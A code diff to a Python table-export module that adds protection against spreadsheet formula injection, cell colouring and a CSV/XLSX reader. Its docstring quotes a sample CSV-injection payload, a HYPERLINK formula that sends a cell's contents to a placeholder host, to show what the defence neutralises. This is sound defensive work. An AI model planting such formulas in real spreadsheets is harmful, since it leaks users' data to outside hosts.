@@ -1,19 +1,30 @@
 """Tables a department opens as is: CSV in UTF-8 with a BOM (so Excel reads the Chinese), and
-XLSX with a frozen header row, sensible column widths and wrapped text."""
+XLSX with a frozen header row, sensible column widths, wrapped text and optional cell fills.
+Reading: the rows of a CSV file or of an XLSX workbook's first sheet, each with its row number.
+
+Every CSV and XLSX the tool writes goes through here, and no cell can become a formula: names,
+notes and units come from people outside the department (a provider called
+``=HYPERLINK("http://x/?"&A1,"点击")``). CSV text cells starting with = + - @, tab or CR get a
+leading ``'`` (the usual defence: Excel shows the text and runs nothing); XLSX text cells are
+stored as text, never as formulas, and keep their value unchanged."""
 
 from __future__ import annotations
 
 import csv
 import io
 import unicodedata
-from collections.abc import Sequence
-from dataclasses import dataclass
+import zipfile
+from collections.abc import Mapping, Sequence
+from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
+from checklist.errors import InputFileError
 from checklist.files import atomic
+from checklist.files.loader import read_text
 
 MAX_WIDTH = 60  # characters; longer cells wrap
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what spreadsheet programs read as the start of a formula
 
 
 @dataclass
@@ -21,13 +32,26 @@ class Sheet:
     title: str
     header: Sequence[str]
     rows: Sequence[Sequence[Any]]
+    fills: Mapping[tuple[int, int], str] = field(default_factory=dict)  # (row, column) in ``rows``, 0-based -> "#RRGGBB"
 
 
-def csv_text(header: Sequence[str], rows: Sequence[Sequence[Any]]) -> str:
+def csv_cell(value: Any) -> Any:
+    """A value as a CSV cell that a spreadsheet shows and never evaluates."""
+    if value is None:
+        return ""
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value
+    return value
+
+
+def csv_text(header: Sequence[str], rows: Sequence[Sequence[Any]], *, notes: Sequence[str] = ()) -> str:
+    """CSV with a BOM; ``notes`` are '#' lines before the header, one cell each (quoted only when
+    a value in them holds a comma, quote or line break, so it can never spill into other cells)."""
     buf = io.StringIO()
     w = csv.writer(buf, lineterminator="\r\n")
-    w.writerow(header)
-    w.writerows(["" if v is None else v for v in row] for row in rows)
+    w.writerows([csv_cell(note)] for note in notes)
+    w.writerow([csv_cell(v) for v in header])
+    w.writerows([csv_cell(v) for v in row] for row in rows)
     return "\ufeff" + buf.getvalue()
 
 
@@ -49,11 +73,17 @@ def write_xlsx(path: Path, sheets: Sequence[Sheet]) -> None:
         ws.append(list(sheet.header))
         for row in sheet.rows:
             ws.append(["" if v is None else v for v in row])
+        for line in ws.iter_rows():
+            for cell in line:
+                if isinstance(cell.value, str):
+                    cell.data_type = "s"  # openpyxl takes a string starting with '=' for a formula
         for cell in ws[1]:
             cell.font, cell.fill, cell.alignment = head_font, head_fill, wrap
         for row in ws.iter_rows(min_row=2):
             for cell in row:
                 cell.alignment = wrap
+        for (r, c), rgb in sheet.fills.items():
+            ws.cell(row=r + 2, column=c + 1).fill = PatternFill("solid", fgColor="FF" + rgb.lstrip("#").upper())
         ws.freeze_panes = "A2"
         for i, title in enumerate(sheet.header, 1):
             cells = [title] + [r[i - 1] for r in sheet.rows if i - 1 < len(r)]
@@ -76,3 +106,32 @@ def _sheet_title(title: str) -> str:
     """Excel's limits: 31 characters, none of []:*?/\\."""
     cleaned = "".join("_" if ch in "[]:*?/\\" else ch for ch in title)
     return cleaned[:31] or "Sheet"
+
+
+def read_table(path: Path) -> tuple[str, list[tuple[int, list[Any]]]]:
+    """A CSV file's rows, or an XLSX workbook's first sheet's, each with its 1-based row number;
+    and how to name the place in messages: ``file`` or ``file[sheet]``."""
+    suffix = path.suffix.lower()
+    if suffix == ".csv":
+        text, _ = read_text(path)
+        reader = csv.reader(io.StringIO(text))
+        return str(path), [(reader.line_num, row) for row in reader]
+    if suffix != ".xlsx":
+        raise InputFileError("a table must be a .csv or .xlsx file", path=str(path))
+    import openpyxl
+    from openpyxl.utils.exceptions import InvalidFileException
+
+    try:
+        book = openpyxl.load_workbook(path, read_only=True, data_only=True)
+    except FileNotFoundError as e:
+        raise InputFileError("no such file", path=str(path)) from e
+    except PermissionError as e:
+        raise InputFileError("permission denied", path=str(path)) from e
+    except (InvalidFileException, zipfile.BadZipFile, OSError, KeyError, ValueError) as e:
+        raise InputFileError(f"not a readable XLSX workbook ({type(e).__name__})", path=str(path)) from e
+    try:
+        sheet = book.worksheets[0]
+        rows = [(i, list(r)) for i, r in enumerate(sheet.iter_rows(values_only=True), 1)]
+        return f"{path}[{sheet.title}]", rows
+    finally:
+        book.close()
